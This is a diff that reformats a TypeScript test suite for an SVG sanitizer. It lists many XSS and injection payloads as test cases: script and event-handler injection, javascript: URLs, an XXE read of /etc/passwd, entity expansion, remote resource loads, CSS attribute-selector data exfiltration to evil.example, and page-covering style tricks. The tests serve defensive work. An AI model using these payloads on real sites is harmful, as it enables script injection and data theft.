@@ -39,7 +39,10 @@ const SCRIPT: XssCase[] = [
   c('script in the XHTML namespace', `<h:script xmlns:h="${XHTML}">alert(1)</h:script>`),
   c('script under a default XHTML namespace', `<g xmlns="${XHTML}"><script>alert(1)</script></g>`),
   c('script inside defs', '<defs><g><script>alert(1)</script></g></defs>'),
-  c('script inside a symbol used by use', '<symbol id="s"><script>alert(1)</script></symbol><use href="#s"/>'),
+  c(
+    'script inside a symbol used by use',
+    '<symbol id="s"><script>alert(1)</script></symbol><use href="#s"/>',
+  ),
   c('script tag split by a nested tag', '<scr<script>ipt>alert(1)</script>'),
   c('script after a valid link', '<a href="#ok"><rect width="1" height="1"/></a><script>alert(1)</script>'),
   doc('script after the root closes', `${wrap('')}<script>alert(1)</script><svg onload="alert(1)"></svg>`),
@@ -54,17 +57,29 @@ const HANDLERS: XssCase[] = [
   c('OnLoAd on the root, mixed case', '', ' OnLoAd="alert(1)"'),
   c('onload on a nested svg', '<svg onload="alert(1)"><rect width="1" height="1"/></svg>'),
   c('onfocus with tabindex', '<g onfocus="alert(1)" tabindex="0"><rect width="1" height="1"/></g>'),
-  c('onfocusin with autofocus', '<rect width="1" height="1" autofocus="" tabindex="1" onfocusin="alert(1)"/>'),
+  c(
+    'onfocusin with autofocus',
+    '<rect width="1" height="1" autofocus="" tabindex="1" onfocusin="alert(1)"/>',
+  ),
   c('onerror on an image', '<image href="x" onerror="alert(1)" width="1" height="1"/>'),
   c('onload on an inline image', '<image href="data:image/png;base64,iVBORw0KGgo=" onload="alert(1)"/>'),
   c('onbegin on animate', '<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
   c('onend on set', '<set onend="alert(1)" attributeName="x" to="1" dur="0.1s"/>'),
-  c('onanimationstart with a CSS animation', '<rect width="9" height="9" style="animation:a 1s" onanimationstart="alert(1)"/>'),
+  c(
+    'onanimationstart with a CSS animation',
+    '<rect width="9" height="9" style="animation:a 1s" onanimationstart="alert(1)"/>',
+  ),
   c('onpointerenter', '<rect width="100" height="100" onpointerenter="alert(1)"/>'),
-  c('handler in a namespaced attribute', '<rect xmlns:x="http://www.w3.org/2000/svg" width="100" height="100" x:onclick="alert(1)"/>'),
+  c(
+    'handler in a namespaced attribute',
+    '<rect xmlns:x="http://www.w3.org/2000/svg" width="100" height="100" x:onclick="alert(1)"/>',
+  ),
   c('handler on tspan', '<text><tspan onclick="alert(1)">x</tspan></text>'),
   c('handler on a link', '<a href="#x" onmouseover="alert(1)"><rect width="100" height="100"/></a>'),
-  c('XML Events handler', '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>'),
+  c(
+    'XML Events handler',
+    '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
+  ),
   c('XML Events listener', '<listener xmlns="http://www.w3.org/2001/xml-events" event="load" handler="#h"/>'),
   c('handler via an entity-encoded name', '<rect width="100" height="100" &#111;nclick="alert(1)"/>'),
 ];
@@ -81,7 +96,10 @@ const LINKS: XssCase[] = [
   link('&#x6a;avascript:', '&#x6a;avascript:alert(1)'),
   link('&#106;avascript:', '&#106;avascript:alert(1)'),
   link('&#0000106; with zero padding', '&#0000106;avascript:alert(1)'),
-  link('every letter an entity', '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)'),
+  link(
+    'every letter an entity',
+    '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
+  ),
   link('leading control character', '&#1;javascript:alert(1)'),
   link('leading form feed', '&#12;javascript:alert(1)'),
   link('leading line separator', '\u2028javascript:alert(1)'),
@@ -94,10 +112,25 @@ const LINKS: XssCase[] = [
   link('data:text/html;base64', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
   link('data:image/svg+xml', 'data:image/svg+xml,&lt;svg onload=alert(1)&gt;'),
   link('both href and xlink:href', 'javascript:alert(1)', 'href', ' xlink:href="#ok"'),
-  link('href in a rebound xlink prefix', 'javascript:alert(1)', 'y:href', ' xmlns:y="http://www.w3.org/1999/xlink"'),
-  c('xml:base javascript on the link', '<a xml:base="javascript:alert(1)//" href="#x"><rect width="100" height="100"/></a>'),
-  c('xml:base javascript on a group', '<g xml:base="javascript:alert(1)//"><a href="#x"><rect width="100" height="100"/></a></g>'),
-  c('xml:base on the root', '<a href="x"><rect width="100" height="100"/></a>', ' xml:base="javascript:alert(1)//"'),
+  link(
+    'href in a rebound xlink prefix',
+    'javascript:alert(1)',
+    'y:href',
+    ' xmlns:y="http://www.w3.org/1999/xlink"',
+  ),
+  c(
+    'xml:base javascript on the link',
+    '<a xml:base="javascript:alert(1)//" href="#x"><rect width="100" height="100"/></a>',
+  ),
+  c(
+    'xml:base javascript on a group',
+    '<g xml:base="javascript:alert(1)//"><a href="#x"><rect width="100" height="100"/></a></g>',
+  ),
+  c(
+    'xml:base on the root',
+    '<a href="x"><rect width="100" height="100"/></a>',
+    ' xml:base="javascript:alert(1)//"',
+  ),
   link('target _top', 'https://evil.example/', 'href', ' target="_top"'),
   link('target _parent', 'https://evil.example/', 'href', ' target="_parent"'),
   link('target _self', 'https://evil.example/', 'href', ' target="_self"'),
@@ -105,67 +138,151 @@ const LINKS: XssCase[] = [
   link('named target', 'https://evil.example/', 'href', ' target="top"'),
   link('xlink:show replace', 'https://evil.example/', 'xlink:href', ' xlink:show="replace"'),
   link('ping to another site', 'https://planvy.se/', 'href', ' ping="https://evil.example/ping"'),
-  c('link with a javascript: form action', '<a href="#" formaction="javascript:alert(1)" src="javascript:alert(1)"><rect width="1" height="1"/></a>'),
-  c('xlink:actuate onLoad', '<rect width="1" height="1" xlink:actuate="onLoad" xlink:href="javascript:alert(1)"/>'),
+  c(
+    'link with a javascript: form action',
+    '<a href="#" formaction="javascript:alert(1)" src="javascript:alert(1)"><rect width="1" height="1"/></a>',
+  ),
+  c(
+    'xlink:actuate onLoad',
+    '<rect width="1" height="1" xlink:actuate="onLoad" xlink:href="javascript:alert(1)"/>',
+  ),
 ];
 
 const RESOURCES: XssCase[] = [
-  c('use of a data: document', '<use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x"/>'),
+  c(
+    'use of a data: document',
+    '<use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x"/>',
+  ),
   c('use of another site', '<use xlink:href="https://evil.example/sprite.svg#icon"/>'),
   c('use of a protocol-relative URL', '<use href="//evil.example/sprite.svg#icon"/>'),
   c('use of another file on this server', '<use href="/api/v1/public/view/1#x"/>'),
   c('image from another site', '<image href="https://evil.example/track.png" width="1" height="1"/>'),
   c('image, protocol-relative', '<image xlink:href="//evil.example/track.png" width="1" height="1"/>'),
-  c('image of an SVG data: URL', '<image xlink:href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;" width="1" height="1"/>'),
+  c(
+    'image of an SVG data: URL',
+    '<image xlink:href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;" width="1" height="1"/>',
+  ),
   c('image with a javascript: URL', '<image href="javascript:alert(1)" width="1" height="1"/>'),
   c('image with src', '<image src="https://evil.example/src.png" width="1" height="1"/>'),
-  c('feImage from another site', '<filter id="f"><feImage href="https://evil.example/x.png"/></filter><rect filter="url(#f)" width="9" height="9"/>'),
-  c('feImage of SVG data', '<filter id="f"><feImage xlink:href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="/></filter>'),
-  c('gradient template from another site', '<linearGradient id="g" href="https://evil.example/g.svg#g"/><rect fill="url(#g)" width="9" height="9"/>'),
+  c(
+    'feImage from another site',
+    '<filter id="f"><feImage href="https://evil.example/x.png"/></filter><rect filter="url(#f)" width="9" height="9"/>',
+  ),
+  c(
+    'feImage of SVG data',
+    '<filter id="f"><feImage xlink:href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="/></filter>',
+  ),
+  c(
+    'gradient template from another site',
+    '<linearGradient id="g" href="https://evil.example/g.svg#g"/><rect fill="url(#g)" width="9" height="9"/>',
+  ),
   c('pattern template from another site', '<pattern id="p" xlink:href="https://evil.example/p.svg#p"/>'),
-  c('textPath from another site', '<text><textPath href="https://evil.example/p.svg#path">x</textPath></text>'),
+  c(
+    'textPath from another site',
+    '<text><textPath href="https://evil.example/p.svg#path">x</textPath></text>',
+  ),
   c('fill from another site', '<rect width="1" height="1" fill="url(https://evil.example/p.svg#g)"/>'),
   c('fill with an escaped url(', '<rect width="9" height="9" fill="\\75 rl(https://evil.example/p.svg#g)"/>'),
-  c('filter attribute from another site', '<rect width="9" height="9" filter="url(https://evil.example/f.svg#f)"/>'),
-  c('mask attribute from another site', '<rect width="9" height="9" mask="url(&quot;https://evil.example/m.svg#m&quot;)"/>'),
-  c('clip-path attribute from another site', '<rect width="9" height="9" clip-path="url(//evil.example/c.svg#c)"/>'),
-  c('marker attribute from another site', '<path d="M0 0L9 9" marker-end="url(https://evil.example/m.svg#m)"/>'),
-  c('cursor attribute from another site', '<rect width="100" height="100" cursor="url(https://evil.example/c.png), auto"/>'),
-  c('cursor element', '<cursor id="c" xlink:href="https://evil.example/c.png"/><rect cursor="url(#c)" width="9" height="9"/>'),
-  c('font-face-uri', '<font-face font-family="x"><font-face-src><font-face-uri xlink:href="https://evil.example/f.svg#f"/></font-face-src></font-face>'),
+  c(
+    'filter attribute from another site',
+    '<rect width="9" height="9" filter="url(https://evil.example/f.svg#f)"/>',
+  ),
+  c(
+    'mask attribute from another site',
+    '<rect width="9" height="9" mask="url(&quot;https://evil.example/m.svg#m&quot;)"/>',
+  ),
+  c(
+    'clip-path attribute from another site',
+    '<rect width="9" height="9" clip-path="url(//evil.example/c.svg#c)"/>',
+  ),
+  c(
+    'marker attribute from another site',
+    '<path d="M0 0L9 9" marker-end="url(https://evil.example/m.svg#m)"/>',
+  ),
+  c(
+    'cursor attribute from another site',
+    '<rect width="100" height="100" cursor="url(https://evil.example/c.png), auto"/>',
+  ),
+  c(
+    'cursor element',
+    '<cursor id="c" xlink:href="https://evil.example/c.png"/><rect cursor="url(#c)" width="9" height="9"/>',
+  ),
+  c(
+    'font-face-uri',
+    '<font-face font-family="x"><font-face-src><font-face-uri xlink:href="https://evil.example/f.svg#f"/></font-face-src></font-face>',
+  ),
   c('color-profile', '<color-profile name="x" xlink:href="https://evil.example/p.icc"/>'),
   c('tref', '<text><tref xlink:href="https://evil.example/t.svg#t"/></text>'),
 ];
 
 const FOREIGN: XssCase[] = [
-  c('foreignObject with an HTML image', `<foreignObject width="100" height="100"><body xmlns="${XHTML}"><img src="x" onerror="alert(1)"/></body></foreignObject>`),
-  c('foreignobject, lower case', '<foreignobject><iframe src="javascript:alert(1)"></iframe></foreignobject>'),
-  c('FOREIGNOBJECT, upper case', `<FOREIGNOBJECT width="100" height="100"><div xmlns="${XHTML}" style="position:fixed;inset:0;background:red"></div></FOREIGNOBJECT>`),
-  c('foreignObject with an HTML style', `<foreignObject><style xmlns="${XHTML}">body{display:none}</style></foreignObject>`),
-  c('HTML div covering the page', `<div xmlns="${XHTML}" style="position:fixed;inset:0;z-index:2147483647;background:red"></div>`),
+  c(
+    'foreignObject with an HTML image',
+    `<foreignObject width="100" height="100"><body xmlns="${XHTML}"><img src="x" onerror="alert(1)"/></body></foreignObject>`,
+  ),
+  c(
+    'foreignobject, lower case',
+    '<foreignobject><iframe src="javascript:alert(1)"></iframe></foreignobject>',
+  ),
+  c(
+    'FOREIGNOBJECT, upper case',
+    `<FOREIGNOBJECT width="100" height="100"><div xmlns="${XHTML}" style="position:fixed;inset:0;background:red"></div></FOREIGNOBJECT>`,
+  ),
+  c(
+    'foreignObject with an HTML style',
+    `<foreignObject><style xmlns="${XHTML}">body{display:none}</style></foreignObject>`,
+  ),
+  c(
+    'HTML div covering the page',
+    `<div xmlns="${XHTML}" style="position:fixed;inset:0;z-index:2147483647;background:red"></div>`,
+  ),
   c('HTML style element', `<h:style xmlns:h="${XHTML}">body{background:red}</h:style>`),
   c('style element in the XHTML namespace', `<style xmlns="${XHTML}">*{color:red!important}</style>`),
-  c('HTML link stylesheet', `<h:link xmlns:h="${XHTML}" rel="stylesheet" href="https://evil.example/x.css"/>`),
+  c(
+    'HTML link stylesheet',
+    `<h:link xmlns:h="${XHTML}" rel="stylesheet" href="https://evil.example/x.css"/>`,
+  ),
   c('HTML base element', `<h:base xmlns:h="${XHTML}" href="https://evil.example/"/>`),
-  c('HTML meta refresh', `<h:meta xmlns:h="${XHTML}" http-equiv="refresh" content="0;url=javascript:alert(1)"/>`),
-  c('HTML iframe with srcdoc', `<h:iframe xmlns:h="${XHTML}" srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"/>`),
+  c(
+    'HTML meta refresh',
+    `<h:meta xmlns:h="${XHTML}" http-equiv="refresh" content="0;url=javascript:alert(1)"/>`,
+  ),
+  c(
+    'HTML iframe with srcdoc',
+    `<h:iframe xmlns:h="${XHTML}" srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"/>`,
+  ),
   c('iframe', '<iframe src="javascript:alert(1)"/>'),
   c('embed', '<embed src="javascript:alert(1)"/>'),
   c('object', '<object data="javascript:alert(1)"/>'),
   c('MathML with an HTML image', '<math><mtext><img src=x onerror=alert(1)></mtext></math>'),
-  c('audio and video', '<audio src="https://evil.example/a.mp3" autoplay=""/><video src="https://evil.example/v.mp4" autoplay=""/>'),
+  c(
+    'audio and video',
+    '<audio src="https://evil.example/a.mp3" autoplay=""/><video src="https://evil.example/v.mp4" autoplay=""/>',
+  ),
   c('canvas', '<canvas width="9" height="9"/>'),
   c('unknown element with handler', '<blink onmouseover="alert(1)">x</blink>'),
 ];
 
 const ANIMATION: XssCase[] = [
-  c('animate href to javascript:', '<a><animate attributeName="href" values="javascript:alert(1)"/><rect width="100" height="100"/></a>'),
-  c('animate xlink:href', '<a xlink:href="#x"><animate attributeName="xlink:href" from="javascript:alert(1)" to="javascript:alert(1)" dur="9s"/><rect width="100" height="100"/></a>'),
-  c('set href to javascript:', '<a><set attributeName="href" to="javascript:alert(1)"/><rect width="100" height="100"/></a>'),
+  c(
+    'animate href to javascript:',
+    '<a><animate attributeName="href" values="javascript:alert(1)"/><rect width="100" height="100"/></a>',
+  ),
+  c(
+    'animate xlink:href',
+    '<a xlink:href="#x"><animate attributeName="xlink:href" from="javascript:alert(1)" to="javascript:alert(1)" dur="9s"/><rect width="100" height="100"/></a>',
+  ),
+  c(
+    'set href to javascript:',
+    '<a><set attributeName="href" to="javascript:alert(1)"/><rect width="100" height="100"/></a>',
+  ),
   c('set an event handler', '<set attributeName="onmouseover" to="alert(1)"/>'),
   c('animate onload', '<animate attributeName="onload" to="alert(1)"/>'),
   c('set style to cover the page', '<set attributeName="style" to="position:fixed;inset:0;z-index:99999"/>'),
-  c('animateTransform moving the drawing', '<animateTransform attributeName="transform" type="scale" to="100" dur="1s"/>'),
+  c(
+    'animateTransform moving the drawing',
+    '<animateTransform attributeName="transform" type="scale" to="100" dur="1s"/>',
+  ),
   c('animateMotion', '<rect width="9" height="9"><animateMotion path="M0 0L900 900" dur="1s"/></rect>'),
   c('animateColor', '<rect width="9" height="9"><animateColor attributeName="fill" to="red"/></rect>'),
   c('discard', '<discard href="#x" begin="0s"/>'),
@@ -173,12 +290,30 @@ const ANIMATION: XssCase[] = [
 ];
 
 const XML: XssCase[] = [
-  doc('DOCTYPE with external and internal entities', `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY lol "&lt;script&gt;alert(1)&lt;/script&gt;">]>${wrap('<text>&xxe;&lol;</text>')}`),
-  doc('entity expansion (a small billion laughs)', `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>${wrap('<text>&c;</text>')}`),
-  doc('entity that expands to a script element', `<!DOCTYPE svg [<!ENTITY s "<script>alert(1)</script>">]>${wrap('&s;')}`),
-  doc('xml-stylesheet before the root', `<?xml-stylesheet href="https://evil.example/x.css" type="text/css"?>${wrap(ZONE)}`),
-  doc('XSLT stylesheet', `<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>${wrap('<rect width="1" height="1"/>')}`),
-  c('xml-stylesheet inside the root', '<?xml-stylesheet href="https://evil.example/x.css" type="text/css"?><rect width="1" height="1"/>'),
+  doc(
+    'DOCTYPE with external and internal entities',
+    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY lol "&lt;script&gt;alert(1)&lt;/script&gt;">]>${wrap('<text>&xxe;&lol;</text>')}`,
+  ),
+  doc(
+    'entity expansion (a small billion laughs)',
+    `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>${wrap('<text>&c;</text>')}`,
+  ),
+  doc(
+    'entity that expands to a script element',
+    `<!DOCTYPE svg [<!ENTITY s "<script>alert(1)</script>">]>${wrap('&s;')}`,
+  ),
+  doc(
+    'xml-stylesheet before the root',
+    `<?xml-stylesheet href="https://evil.example/x.css" type="text/css"?>${wrap(ZONE)}`,
+  ),
+  doc(
+    'XSLT stylesheet',
+    `<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>${wrap('<rect width="1" height="1"/>')}`,
+  ),
+  c(
+    'xml-stylesheet inside the root',
+    '<?xml-stylesheet href="https://evil.example/x.css" type="text/css"?><rect width="1" height="1"/>',
+  ),
   c('comment hiding a script', '<!--<script>alert(1)</script>--><rect width="1" height="1"/>'),
   doc('root in the XHTML namespace', `<svg xmlns="${XHTML}"><script>alert(1)</script></svg>`),
   doc('HTML document, no SVG root', `<html><body><script>alert(1)</script></body></html>`),
@@ -208,17 +343,44 @@ const CSS_FETCH: XssCase[] = [
   css('list-style-image url()', 'text{list-style-image:url(https://evil.example/l.png)}'),
   css('border-image url()', '.st0{border-image:url(https://evil.example/b.png) 30}'),
   css('content url()', '.st0::before{content:url(https://evil.example/c.png)}'),
-  css('custom property smuggling a url()', '.st0{--x:url(https://evil.example/v.png);background-image:var(--x)}'),
-  css('@font-face with a remote source', '@font-face{font-family:Evil;src:url(https://evil.example/f.woff2)}text{font-family:Evil}'),
-  css('@font-face hijacking a host font', '@font-face{font-family:Inter;src:local("Courier New")}@font-face{font-family:system-ui;src:local("Courier New")}'),
-  css('@font-face hijacking a generic family name', '@font-face{font-family:"sans-serif";src:url(https://evil.example/f.woff)}'),
-  css('data exfiltration by attribute selector', 'rect[data-bostad^="1"]{background:url(https://evil.example/leak?1)}'),
+  css(
+    'custom property smuggling a url()',
+    '.st0{--x:url(https://evil.example/v.png);background-image:var(--x)}',
+  ),
+  css(
+    '@font-face with a remote source',
+    '@font-face{font-family:Evil;src:url(https://evil.example/f.woff2)}text{font-family:Evil}',
+  ),
+  css(
+    '@font-face hijacking a host font',
+    '@font-face{font-family:Inter;src:local("Courier New")}@font-face{font-family:system-ui;src:local("Courier New")}',
+  ),
+  css(
+    '@font-face hijacking a generic family name',
+    '@font-face{font-family:"sans-serif";src:url(https://evil.example/f.woff)}',
+  ),
+  css(
+    'data exfiltration by attribute selector',
+    'rect[data-bostad^="1"]{background:url(https://evil.example/leak?1)}',
+  ),
   c('url() in a style attribute', '<rect style="fill: url(https://evil.example/x#p)" width="1" height="1"/>'),
-  c('escaped url in a style attribute', '<rect style="background:\\75 rl(https://evil.example/s.png)" width="1" height="1"/>'),
-  c('behavior and -moz-binding in a style attribute', '<rect style="behavior: url(x.htc); -moz-binding: url(x.xml#xss)" width="1" height="1"/>'),
-  c('entity-encoded url in a style attribute', '<rect style="background:&#117;rl(https://evil.example/e.png)" width="1" height="1"/>'),
+  c(
+    'escaped url in a style attribute',
+    '<rect style="background:\\75 rl(https://evil.example/s.png)" width="1" height="1"/>',
+  ),
+  c(
+    'behavior and -moz-binding in a style attribute',
+    '<rect style="behavior: url(x.htc); -moz-binding: url(x.xml#xss)" width="1" height="1"/>',
+  ),
+  c(
+    'entity-encoded url in a style attribute',
+    '<rect style="background:&#117;rl(https://evil.example/e.png)" width="1" height="1"/>',
+  ),
   c('style element closed by entities', '<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>'),
-  c('style element in CDATA', '<style><![CDATA[ @import "https://evil.example/x.css"; body{display:none} ]]></style>'),
+  c(
+    'style element in CDATA',
+    '<style><![CDATA[ @import "https://evil.example/x.css"; body{display:none} ]]></style>',
+  ),
 ];
 
 const CSS_SCOPE: XssCase[] = [
@@ -229,7 +391,10 @@ const CSS_SCOPE: XssCase[] = [
   css('svg', 'svg{position:fixed;inset:0;z-index:2147483647;width:100vw;height:100vh}'),
   css('svg * (inline icons elsewhere)', 'svg *{fill:red!important}'),
   css('common class names', '.st0,.cls-1{fill:red!important;display:none}'),
-  css('HTML elements', 'div,p,span,button,a,input,table,td,th,li,h1,h2,label{color:red!important;visibility:hidden}'),
+  css(
+    'HTML elements',
+    'div,p,span,button,a,input,table,td,th,li,h1,h2,label{color:red!important;visibility:hidden}',
+  ),
   css('quoted ( before a second selector', '[title="("],body{display:none}'),
   css('quoted , before a second selector', '[title=","],body{display:none}'),
   css('quoted ) before a second selector', 'text[title=")"],html{display:none}'),
@@ -254,14 +419,23 @@ const CSS_SCOPE: XssCase[] = [
   css('@container', '@container (min-width:0){body{display:none}}'),
   css('@scope', '@scope (html){body{display:none}}'),
   css('@layer reordering', '@layer mantine,base;@layer base{body{display:none}}'),
-  css('@keyframes overriding a host animation', '@keyframes spin{to{transform:scale(50)}}@keyframes mantine-spin{to{transform:scale(50)}}'),
-  css('@property registration', '@property --mantine-color-body{syntax:"<color>";inherits:true;initial-value:red}'),
+  css(
+    '@keyframes overriding a host animation',
+    '@keyframes spin{to{transform:scale(50)}}@keyframes mantine-spin{to{transform:scale(50)}}',
+  ),
+  css(
+    '@property registration',
+    '@property --mantine-color-body{syntax:"<color>";inherits:true;initial-value:red}',
+  ),
   css('@counter-style', '@counter-style disc{system:cyclic;symbols:"X"}'),
   css('@page', '@page{margin:5cm}'),
   css('@view-transition', '@view-transition{navigation:auto}'),
   css('@starting-style', '@starting-style{body{opacity:0}}'),
   css('a child element inside <style>', '.st0{fill:blue}<g>body{display:none}</g>'),
-  css('a title element inside <style>', '<title>t</title>@import "https://evil.example/x.css";html{display:none}'),
+  css(
+    'a title element inside <style>',
+    '<title>t</title>@import "https://evil.example/x.css";html{display:none}',
+  ),
   css('unbalanced brace', '.st0{fill:blue}}body{display:none}'),
   css('unclosed comment', '.st0{fill:blue}/*'),
   css('comment splitting a selector', 'bo/**/dy{display:none}'),
@@ -269,8 +443,14 @@ const CSS_SCOPE: XssCase[] = [
 ];
 
 const BOX: XssCase[] = [
-  rootStyle('root position:fixed over the page', 'position:fixed;inset:0;z-index:2147483647;width:100vw;height:100vh'),
-  rootStyle('root position:absolute', 'position:absolute;top:0;left:0;z-index:99999;width:3000px;height:3000px'),
+  rootStyle(
+    'root position:fixed over the page',
+    'position:fixed;inset:0;z-index:2147483647;width:100vw;height:100vh',
+  ),
+  rootStyle(
+    'root position:absolute',
+    'position:absolute;top:0;left:0;z-index:99999;width:3000px;height:3000px',
+  ),
   rootStyle('root position:sticky', 'position:sticky;top:0;z-index:99999'),
   rootStyle('root negative margins', 'margin:-2000px;width:6000px;height:6000px'),
   rootStyle('root transform', 'transform:translate(-50%,-50%) scale(20)'),
@@ -283,16 +463,29 @@ const BOX: XssCase[] = [
   rootStyle('root float and huge size', 'float:left;width:5000px;height:5000px'),
   rootStyle('root escaped position', 'po\\73 ition:fixed;inset:0;z-index:99999'),
   rootStyle('root POSITION upper case', 'POSITION:FIXED;INSET:0;Z-INDEX:99999'),
-  rootStyle('root position with !important', 'position:fixed!important;inset:0!important;z-index:99999!important'),
+  rootStyle(
+    'root position with !important',
+    'position:fixed!important;inset:0!important;z-index:99999!important',
+  ),
   rootStyle('root style via entities', '&#112;osition:fixed;inset:0;z-index:99999'),
   rootStyle('root fixed background', 'background:url(https://evil.example/bg.png) fixed'),
   c('root transform attribute', HUGE, ' transform="translate(-500 -500) scale(30)"'),
   c('root overflow attribute', HUGE, ' overflow="visible"'),
-  c('root filter flooding the page', `<filter id="f" filterUnits="userSpaceOnUse" x="-9999" y="-9999" width="99999" height="99999"><feFlood flood-color="red"/></filter>${ZONE}`, ' filter="url(#f)"'),
+  c(
+    'root filter flooding the page',
+    `<filter id="f" filterUnits="userSpaceOnUse" x="-9999" y="-9999" width="99999" height="99999"><feFlood flood-color="red"/></filter>${ZONE}`,
+    ' filter="url(#f)"',
+  ),
   c('root mix-blend-mode', HUGE, ' style="mix-blend-mode:difference" overflow="visible"'),
-  c('nested svg with overflow visible', `<svg overflow="visible" x="0" y="0" width="10" height="10">${HUGE}</svg>`),
+  c(
+    'nested svg with overflow visible',
+    `<svg overflow="visible" x="0" y="0" width="10" height="10">${HUGE}</svg>`,
+  ),
   c('nested svg positioned fixed', `<svg style="position:fixed;inset:0;z-index:99999">${HUGE}</svg>`),
-  c('shape positioned fixed', '<rect style="position:fixed;inset:0;z-index:99999;width:100vw;height:100vh" fill="red"/>'),
+  c(
+    'shape positioned fixed',
+    '<rect style="position:fixed;inset:0;z-index:99999;width:100vw;height:100vh" fill="red"/>',
+  ),
   c('huge shape (must stay clipped)', HUGE),
 ];
 
